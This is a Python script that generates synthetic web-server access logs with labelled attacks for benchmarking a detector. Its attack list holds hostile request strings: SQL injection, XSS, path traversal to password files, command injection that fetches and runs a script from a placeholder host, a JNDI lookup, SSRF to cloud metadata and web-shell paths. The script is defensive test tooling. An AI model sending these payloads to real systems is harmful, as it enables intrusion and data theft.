#!/usr/bin/env python3
"""Generate a synthetic nginx/Apache "combined" access log for benchmarks, with labelled attacks.

    python3 tools/gen-access-log.py -n 1000000 --seed 1 -o /tmp/access.log [--labels /tmp/access.tsv]

Written for Vigil (no other project's code or data): stdlib only, deterministic for a given seed
and arguments. Each line is

    IP - - [dd/Mon/yyyy:HH:MM:SS +0000] "METHOD TARGET HTTP/1.1" STATUS BYTES "REFERER" "USER-AGENT"

* ordinary traffic of a shop-like web app: pages, static files, a JSON API, a WordPress blog,
  searches, logins; browser, crawler and API-client user agents; 200/304/404 answers;
* client addresses drawn from the documentation ranges and a deterministic spread of public
  addresses, a few clients much busier than the rest (so per-client state is exercised);
* time stamps that never go backwards (default start 2026-01-01T00:00:00Z, about 20 requests
  a second);
* a fraction (default 1%) of attack requests in short sessions per attacker, built from the
  attack classes' grammar (SQL injection, XSS, path traversal, command and code injection,
  SSRF, sensitive files, web shells, scanners), plus a few fast scanner bursts of 404s.

--labels writes "line<TAB>kind<TAB>class<TAB>client" for every attack line (1-based line numbers),
for checking recall by hand; the benchmark itself only needs the log.
"""
import argparse
import random
import sys
from urllib.parse import quote

MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
]
CRAWLERS = [
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
]
CLIENTS = ["okhttp/4.12.0", "python-requests/2.32.3", "Go-http-client/1.1", "curl/8.11.0"]

PAGES = ["/", "/products", "/products/{n}", "/cart", "/checkout", "/about", "/contact", "/blog/",
         "/blog/{y}/{m}/post-{n}/", "/category/garden", "/category/kitchen", "/help/shipping"]
STATIC = ["/static/app.{h}.js", "/static/app.{h}.css", "/static/img/p{n}.webp", "/favicon.ico",
          "/wp-content/themes/shop/style.css", "/wp-includes/js/jquery/jquery.min.js"]
API = ["/api/v1/products?page={p}", "/api/v1/products/{n}", "/api/v1/cart", "/api/v1/search?q={w}"]
WORDS = ["garden chair", "kettle", "blue mug", "rain jacket", "lamp", "oak table", "gift card", "tea"]

# Attack requests by class, written from the classes' grammar (OWASP testing guide style), not
# copied from any data set. {u} is replaced by a short random token so lines are not identical.
ATTACKS = {
    "sqli": ["/products?id={n}' OR '1'='1", "/products?id={n} UNION SELECT username,password FROM users--",
             "/search?q=x'; DROP TABLE orders;--", "/products?id={n} AND SLEEP(5)",
             "/login?user=admin'--&pass={u}", "/api/v1/products?sort=(SELECT CASE WHEN 1=1 THEN 1 ELSE 0 END)"],
    "xss": ["/search?q=<script>alert({n})</script>", "/search?q=\"><img src=x onerror=alert({n})>",
            "/comment?text=<svg onload=fetch('//{u}.example')>", "/search?q=javascript:alert(document.cookie)"],
    "traversal": ["/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fshadow",
                  "/view?page=....//....//windows/win.ini", "/img?path=%2e%2e/%2e%2e/proc/self/environ"],
    "cmdi": ["/ping?host=127.0.0.1;id", "/tools/dns?name=x|cat /etc/passwd", "/export?fmt=csv`uname -a`",
             "/cgi-bin/status?q=$(curl http://{u}.example/s.sh|sh)"],
    "code": ["/?x=${jndi:ldap://{u}.example:1389/a}", "/index.php?page=php://input",
             "/page?name={{7*7}}", "/index.php?s=/index/think/app/invokefunction&function=system&vars=id"],
    "ssrf": ["/fetch?url=http://169.254.169.254/latest/meta-data/", "/proxy?to=http://localhost:8080/admin",
             "/image?src=gopher://127.0.0.1:6379/_INFO"],
    "sensitive": ["/.env", "/.git/config", "/backup.sql", "/config.php.bak", "/phpinfo.php", "/.aws/credentials"],
    "webshell": ["/uploads/c99.php?cmd=ls", "/wp-content/uploads/shell.php?cmd=whoami", "/images/r57.php"],
}
ATTACK_AGENTS = ["sqlmap/1.8.11#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                 "Nikto/2.5.0", "curl/8.11.0", "python-requests/2.32.3", BROWSERS[0]]
SCAN_PATHS = ["/admin/", "/administrator/", "/phpmyadmin/", "/wp-login.php", "/xmlrpc.php", "/.git/HEAD",
              "/server-status", "/actuator/env", "/console/", "/manager/html", "/cgi-bin/test.cgi", "/config.json"]


def public_ip(r):
    """A public-looking IPv4 address: documentation ranges first, then a spread of others."""
    if r.random() < 0.5:
        return "%s.%d" % (r.choice(("192.0.2", "198.51.100", "203.0.113")), r.randint(1, 254))
    while True:
        a = r.randint(1, 223)
        if a not in (10, 100, 127, 169, 172, 192):
            return "%d.%d.%d.%d" % (a, r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))


def fill(template, r):
    return (template.replace("{n}", str(r.randint(1, 5000))).replace("{p}", str(r.randint(1, 40)))
            .replace("{y}", str(r.randint(2019, 2026))).replace("{m}", "%02d" % r.randint(1, 12))
            .replace("{h}", "%08x" % r.getrandbits(32)).replace("{u}", "%06x" % r.getrandbits(24))
            .replace("{w}", quote(r.choice(WORDS), safe="")))


def as_logged(target):
    """The request target as nginx logs it: spaces, quotes and control bytes percent-encoded."""
    return quote(target, safe="/?&=%;:,+@!$'()*[]{}|`~^<>.#-_")


def stamp(t):
    import time
    g = time.gmtime(t)
    return "%02d/%s/%04d:%02d:%02d:%02d +0000" % (g.tm_mday, MONTHS[g.tm_mon - 1], g.tm_year, g.tm_hour, g.tm_min, g.tm_sec)


def normal(r, clients):
    ip = clients[min(int(r.paretovariate(1.2)) - 1, len(clients) - 1)]
    k = r.random()
    if k < 0.45:
        target, status = fill(r.choice(STATIC), r), r.choice((200, 200, 200, 304))
    elif k < 0.80:
        target, status = fill(r.choice(PAGES), r), r.choice((200, 200, 200, 200, 404))
    elif k < 0.95:
        target, status = fill(r.choice(API), r), 200
    else:
        target, status = "/wp-login.php", r.choice((200, 302))
    method = "POST" if target in ("/api/v1/cart", "/wp-login.php") and r.random() < 0.5 else "GET"
    agent = r.choice(CLIENTS) if target.startswith("/api/") else (r.choice(CRAWLERS) if r.random() < 0.08 else r.choice(BROWSERS))
    referer = "https://shop.example/" if r.random() < 0.4 else "-"
    return ip, method, target, status, agent, referer


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("-n", "--lines", type=int, default=100000, help="lines to write (default 100000)")
    ap.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    ap.add_argument("-o", "--output", help="output file (default: standard output)")
    ap.add_argument("--attack-fraction", type=float, default=0.01, help="share of attack lines (default 0.01)")
    ap.add_argument("--clients", type=int, default=20000, help="distinct ordinary clients (default 20000)")
    ap.add_argument("--start", type=int, default=1767225600, help="first time stamp, epoch seconds (default 2026-01-01)")
    ap.add_argument("--rate", type=float, default=20.0, help="requests a second (default 20)")
    ap.add_argument("--labels", help="write line, kind, class and client of every attack line here (TSV)")
    a = ap.parse_args()
    if a.lines < 0 or not 0 <= a.attack_fraction <= 1:
        ap.error("--lines must be >= 0 and --attack-fraction between 0 and 1")

    r = random.Random(a.seed)
    clients = [public_ip(r) for _ in range(max(1, a.clients))]
    attackers = [public_ip(r) for _ in range(300)]
    out = open(a.output, "w", encoding="utf-8", newline="\n") if a.output else sys.stdout
    labels = open(a.labels, "w", encoding="utf-8") if a.labels else None
    t = float(a.start)
    session = []      # pending attack lines of the current attacker
    burst = 0         # scanner lines left in the current burst
    burst_ip = None
    n_attack = 0
    for line in range(1, a.lines + 1):
        t += r.expovariate(a.rate)
        kind = None
        if burst:
            burst -= 1
            ip, method, target, status, agent, referer = burst_ip, "GET", r.choice(SCAN_PATHS), 404, ATTACK_AGENTS[2], "-"
            kind, cls = "scanner", "probe"
        elif session or r.random() < a.attack_fraction / 4:
            if not session:
                ip = r.choice(attackers)
                cls = r.choice(sorted(ATTACKS))
                agent = r.choice(ATTACK_AGENTS)
                session = [(ip, cls, agent)] * r.randint(2, 6)
            ip, cls, agent = session.pop()
            method, target, status, referer = "GET", fill(r.choice(ATTACKS[cls]), r), r.choice((200, 400, 403, 404, 500)), "-"
            kind = "attack"
        elif r.random() < 2e-5:
            burst, burst_ip = r.randint(100, 400), r.choice(attackers)
            ip, method, target, status, agent, referer = normal(r, clients)
        else:
            ip, method, target, status, agent, referer = normal(r, clients)
        size = 0 if status == 304 else r.randint(200, 60000)
        out.write('%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"\n' % (
            ip, stamp(int(t)), method, as_logged(target), status, size, referer, agent))
        if kind:
            n_attack += 1
            if labels:
                labels.write("%d\t%s\t%s\t%s\n" % (line, kind, cls, ip))
    if a.output:
        out.close()
    if labels:
        labels.close()
    sys.stderr.write("wrote %d lines (%d attack or scanner lines)\n" % (a.lines, n_attack))


if __name__ == "__main__":
    main()
